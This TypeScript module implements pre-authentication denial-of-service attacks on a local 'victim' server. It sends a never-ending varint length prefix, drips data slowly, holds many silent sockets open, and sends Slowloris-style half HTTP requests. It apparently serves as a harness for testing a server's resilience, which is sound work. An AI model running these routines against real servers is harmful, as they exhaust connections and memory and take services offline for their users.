/** Attacks before authentication, on plain sockets. */

import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Socket } from 'node:net'

/** Longest wait for the victim to close a socket, in milliseconds. */
const CLOSE_MS = 30_000

/** Eight times 0x80, and then zeros: a decoder that looks at eight bytes asks for more each time. */
export function endlessLength(bytes: number): Buffer {
  return Buffer.concat([Buffer.alloc(8, 0x80), Buffer.alloc(Math.max(0, bytes - 8))])
}

async function open(port: number, localAddress = '127.0.0.2'): Promise<Socket> {
  const socket = connect({ port, host: '127.0.0.1', localAddress })
  socket.on('error', () => {}) // the victim resets what it does not like
  socket.resume()
  await new Promise<void>(resolve => socket.once('connect', resolve).once('close', () => resolve()))
  return socket
}

/** One length that does not end. Resolves with the bytes sent when the victim has closed the socket, or read all of them. */
export async function sendLength({ port, bytes }: { port: number; bytes: number }): Promise<number> {
  const socket = await open(port)
  const closed = new Promise(resolve => socket.once('close', resolve))
  socket.end(endlessLength(bytes))
  await Promise.race([closed, pause(CLOSE_MS)])
  socket.destroy()
  return bytes
}

/** The same, slowly, on one socket after the other as the victim closes them. */
export async function drip({
  port,
  kibPerSecond,
  seconds,
}: {
  port: number
  kibPerSecond: number
  seconds: number
}): Promise<number> {
  const endsAt = performance.now() + seconds * 1000
  let bytes = 0
  while (performance.now() < endsAt) {
    const socket = await open(port)
    for (let first = true; !socket.destroyed && performance.now() < endsAt; first = false) {
      const piece = first ? endlessLength(102 * kibPerSecond) : Buffer.alloc(102 * kibPerSecond)
      bytes += piece.byteLength
      socket.write(piece)
      await pause(100)
    }
    socket.destroy()
    await pause(50)
  }
  return bytes
}

/** Sockets that say nothing, or a few bytes, for some time. Those that the victim closes are opened again. */
export async function silentSockets({
  port,
  count,
  seconds,
  text = '',
}: {
  port: number
  count: number
  seconds: number
  text?: string
}): Promise<number> {
  const endsAt = performance.now() + seconds * 1000
  let sent = 0
  const hold = async (): Promise<void> => {
    while (performance.now() < endsAt) {
      const socket = await open(port)
      sent += 60 + text.length
      if (text !== '' && !socket.destroyed) socket.write(text)
      if (!socket.destroyed)
        await Promise.race([
          new Promise(resolve => socket.once('close', resolve)),
          pause(Math.max(0, endsAt - performance.now())),
        ])
      socket.destroy()
      await pause(250)
    }
  }
  await Promise.all(Array.from({ length: count }, hold))
  return sent
}

/** The same with half a head of HTTP. */
export async function halfRequests(order: { port: number; count: number; seconds: number }): Promise<number> {
  return silentSockets({ ...order, text: 'GET / HTTP/1.1\r\nHost: x\r\n' })
}
